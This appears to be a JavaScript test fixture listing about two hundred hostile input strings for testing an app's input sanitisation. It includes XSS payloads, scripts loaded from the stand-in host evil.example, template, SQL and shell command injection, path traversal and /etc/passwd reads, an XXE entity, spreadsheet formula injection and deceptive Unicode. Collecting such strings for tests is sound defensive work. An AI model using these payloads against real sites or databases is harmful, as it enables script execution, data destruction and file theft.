// Two hundred texts that try to be more than text. Each of those that run something sets `window.__pwned`.
const P = 'window.__pwned=1'
const handlers = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin', 'onpointerover', 'onwheel', 'onhashchange', 'onpageshow', 'onscroll', 'onbeforetoggle', 'oncontentvisibilityautostatechange']

const tags = [
  `<script>${P}</script>`, `<SCRIPT>${P}</SCRIPT>`, `<script src=//evil.example/x.js></script>`, `<script src="data:text/javascript,${P}"></script>`, `</script><script>${P}</script>`, `</title><script>${P}</script>`,
  `</textarea><script>${P}</script>`, `--><script>${P}</script>`, `]]><script>${P}</script>`, `"><script>${P}</script>`, `'><script>${P}</script>`, `<scr<script>ipt>${P}</scr</script>ipt>`, `<script/x>${P}</script>`,
  `<script type=module>${P}</script>`, `<script>${P}//`, `<iframe src="javascript:parent.${P}">`, `<iframe srcdoc="<script>parent.${P}</script>">`, `<object data="javascript:${P}">`, `<embed src="javascript:${P}">`,
  `<a href="javascript:${P}">x</a>`, `<form action="javascript:${P}"><button>x`, `<button formaction="javascript:${P}">x`, `<base href="javascript:/a/+${P}//">`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:${P}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=//evil.example>`, `<style>@import "//evil.example/x.css";</style>`, `<style>*{display:none!important}</style>`,
  `<plaintext>`, `<noscript><p title="</noscript><img src=x onerror=${P}>">`, `<template><img src=x onerror=${P}></template>`, `<xmp><img src=x onerror=${P}></xmp>`, `<math><mi//xlink:href="data:x,<script>${P}</script>">`,
  `<svg><script>${P}</script></svg>`, `<svg/onload=${P}>`, `<svg><animate onbegin=${P} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${P}"><text y=9>x`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${P}>#x">`,
  `<svg><foreignObject><img src=x onerror=${P}>`, `<svg><style><img src=x onerror=${P}></style>`, `<img src=x onerror=${P}>`, `<img src="x" onerror="${P}">`, `<img/src=x/onerror=${P}>`, `<IMG SRC=x OnErRoR=${P}>`, `<img src=x:x onerror=${P}//>`,
  `<img srcset=x onerror=${P}>`, `<video><source onerror=${P}>`, `<video src=x onerror=${P}>`, `<audio src=x onerror=${P}>`, `<input autofocus onfocus=${P}>`, `<select autofocus onfocus=${P}>`, `<textarea autofocus onfocus=${P}>`,
  `<details open ontoggle=${P}>`, `<marquee onstart=${P}>`, `<body onload=${P}>`, `<isindex type=image src=1 onerror=${P}>`, `<dialog open onclose=${P}>`, `<portal src=//evil.example>`, `<slot onslotchange=${P}>`, `<custom-element onclick=${P}>`,
  `<stream-player work="x" onload=${P}>`, `<table background="javascript:${P}">`, `<div style="background:url(javascript:${P})">`, `<div style="position:fixed;inset:0;z-index:99999;background:red">`, `<frameset onload=${P}>`, `<keygen autofocus onfocus=${P}>`,
]
const attributes = handlers.flatMap((on) => [`" ${on}="${P}" x="`, `' ${on}='${P}' autofocus x='`])
const urls = [
  `javascript:${P}`, `JaVaScRiPt:${P}`, ` javascript:${P}`, `java&#115;cript:${P}`, `javascript&colon;${P}`, `javascript://%0a${P}`, `javascript:/*--></title></style></textarea></script>*/${P}`, `data:text/html,<script>${P}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`, `vbscript:msgbox(1)`, `feed:javascript:${P}`, `view-source:javascript:${P}`, `blob:null/${P}`, `//evil.example`, `\\\\evil.example`, `https://evil.example/?javascript:${P}`, `file:///etc/passwd`, `jar:javascript:${P}`,
]
const templates = [
  `{{constructor.constructor('${P}')()}}`, `\${${P}}`, `#{${P}}`, `{@html '<img src=x onerror=${P}>'}`, `{#if 1}<b>x</b>{/if}`, `<%= ${P} %>`, `{% raw %}x{% endraw %}`, `[[${P}]]`, `{{7*7}}`, `{7*7}`, `\`-${P}-\``, `';${P};'`, `";${P};"`, `\\";${P};//`,
  `*/${P}/*`, `{"__proto__":{"x":1}}`, `__proto__`, `constructor`, `toString`, `hasOwnProperty`, `undefined`, `null`, `NaN`, `[object Object]`, `%s%s%n%x`, `%3Cscript%3E${P}%3C/script%3E`, `&lt;script&gt;${P}&lt;/script&gt;`, `&#60;script&#62;${P}&#60;/script&#62;`,
  `\\u003cscript\\u003e${P}\\u003c/script\\u003e`, `\\x3cscript\\x3e${P}`, `<!--#exec cmd="id"-->`, `<?php echo 1 ?>`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`, `]]>`, `<![CDATA[<script>${P}</script>]]>`, `--><!--`, `</item></channel></rss>`,
  `' OR 1=1 --`, `'; DROP TABLE works; --`, `" UNION SELECT 1`, `title:* AND NEAR("a" "b")`, `"unbalanced`, `* ^ ( ) : -`, `$(id)`, `\`id\``, `../../../etc/passwd`, `%2e%2e%2f`, `=cmd|' /C calc'!A0`, `@SUM(1+1)`, `+1+cmd`, `-2+3`,
]
const signs = [
  'a\u0000b', '\u0007bell', 'tab\tin', 'line\nbreak', 'carriage\rreturn', '\u001b[31mred\u001b[0m', '\u202egnp.exe', '\u202dleft', '\u2066isolate\u2069', '\u2069\u2069\u2069pop', '\u200frtl mark', '\u061carabic mark', 'zero\u200bwidth', '\ufeffbom', '\u2028line', '\u2029para',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘', '̷̛'.repeat(30) + 'x', '👨‍👩‍👧‍👦'.repeat(5), '🏴󠁧󠁢󠁥󠁮󠁧󠁿', 'ﷺ'.repeat(40), '𒐫'.repeat(30), 'عربي English עברית', 'W'.repeat(140), '\u00a0', '\u3000', 'ı̇İ', 'ﬀ', '\ud83d', '\uffff', '<\u200bscript>', '＜script＞' + P, '‹img src=x onerror=' + P + '›', '\u00ad'.repeat(20) + 'soft', 'e\u0301'.repeat(40),
]

export const hostile = [...tags, ...attributes, ...urls, ...templates, ...signs]
